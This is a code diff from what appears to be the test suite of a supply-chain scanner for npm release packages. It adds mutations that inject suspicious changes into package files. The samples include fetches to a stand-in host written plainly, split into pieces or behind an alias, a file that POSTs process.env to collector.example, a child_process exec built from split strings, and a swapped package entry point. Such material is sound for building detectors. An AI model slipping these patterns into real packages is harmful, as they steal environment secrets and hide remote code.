@@ -37,6 +37,11 @@ internal sealed record Injection(string Name, Func<List<ReleaseFile>, bool> Appl
         new("evaluation in a file that had none", files => Change(files, file => IsCode(file) && !Has(file, "eval(", "new Function(", "runIn"), (file, _) => Append(file, "\nnew Function(atob('MQ=='))();\n"))),
         new("a network module in a file that had none", files => Change(files, file => IsCode(file) && !Has(file, "fetch(", "http", "XMLHttpRequest", "WebSocket", "sendBeacon"), (file, _) => Append(file, "\nrequire('https').get('https://collector.example/');\n"))),
         new("a new address in code that reaches out", files => Change(files, file => IsCode(file) && Has(file, "fetch(", "XMLHttpRequest", "http.request(", "https.request("), (file, _) => Append(file, "\nfetch('https://collector.example/');\n"))),
+        new("the parts of a new address in code that reaches out", files => Change(files, file => IsCode(file) && Has(file, "fetch(", "XMLHttpRequest", "http.request(", "https.request("), (file, _) => Append(file, "\nfetch('//collec' + 'tor.example/');\n"))),
+        new("a new host in a field, in code that reaches out", files => Change(files, file => IsCode(file) && Has(file, "fetch(", "XMLHttpRequest", "http.request(", "https.request("), (file, _) => Append(file, "\nrequire('https').get({ hostname: 'collector.example', port: 443 });\n"))),
+        new("network under another name in a file that had none", files => Change(files, file => IsCode(file) && !Has(file, "fetch", "http", "XMLHttpRequest", "WebSocket", "sendBeacon"), (file, _) => Append(file, "\nconst send = globalThis.fetch;\nsend('https://collector.example/');\n"))),
+        new("another file to begin with", files => Begin(files, "boot.js")),
+        new("a document to begin with", files => Begin(files, "NOTES.md")),
         new("a new file that sends the environment away", files => { files.Add(new ReleaseFile("package/metrics.js", "const https = require('https');\nconst body = JSON.stringify(process.env);\nhttps.request('https://collector.example/', { method: 'POST' }).end(body);\n"u8.ToArray(), Plain)); return true; }),
         new("a module by a name put together", files => Change(files, IsCode, (file, _) => Append(file, "\nrequire('chi' + 'ld_process').exec('id');\n"))),
         new("a dependency from an address", files => Manifest(files, json => Object(json, "dependencies")["helper-lib"] = "https://cdn.example/helper-lib.tgz")),
@@ -114,6 +119,14 @@ internal sealed record Injection(string Name, Func<List<ReleaseFile>, bool> Appl
         change(json);
         return file with { Bytes = Encoding.UTF8.GetBytes(json.ToJsonString()) };
     });
+
+    private static bool Begin(List<ReleaseFile> files, string name) =>
+        Manifest(files, json =>
+        {
+            var main = json["main"]?.GetValue<string>() ?? "index.js";
+            files.Add(new ReleaseFile("package/" + name, Encoding.UTF8.GetBytes($"module.exports = require('./{main.TrimStart('.', '/')}');\n"), Plain));
+            json["main"] = name;
+        });
 
     private static JsonObject Object(JsonObject json, string name)
     {
